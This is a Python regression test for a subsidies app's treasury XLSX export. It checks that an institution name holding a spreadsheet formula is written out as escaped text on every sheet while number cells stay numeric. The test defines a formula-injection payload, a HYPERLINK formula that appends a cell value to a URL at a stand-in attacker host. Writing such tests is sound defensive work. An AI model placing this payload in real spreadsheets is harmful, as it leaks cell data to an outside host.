"""The treasury's XLSX writes every cell as a value : a hostile institution
name such as ``=HYPERLINK(...)`` was a live formula on both sheets."""

from __future__ import annotations

from io import BytesIO

from openpyxl import load_workbook

from registry.models import Institution
from subsidies.exports import batch_workbook
from subsidies.services.batches import create_batch
from subsidies.services.claims import approve_claim, submit_claim
from tests.subsidies.conftest import draft_family_claim

HOSTILE = '=HYPERLINK("http://evil.example/?c="&B2,"点击查看")'


def test_a_formula_in_an_institution_name_is_exported_as_text(
    filing, operator, finance_officer, schemes
) -> None:
    Institution.objects.filter(pk=filing.institution_id).update(name=HOSTILE)
    claim = approve_claim(
        submit_claim(draft_family_claim(filing, operator, schemes), actor=operator),
        actor=finance_officer,
    )
    batch = create_batch([claim.pk], actor=finance_officer)
    workbook = load_workbook(BytesIO(batch_workbook(batch)))
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert len(cells) == 3  # the totals sheet, and each priced month on the lines sheet
    for cell in cells:
        assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    # Numbers stay numbers: the treasury's totals still add up.
    assert workbook.worksheets[0].cell(row=2, column=5).data_type == "n"
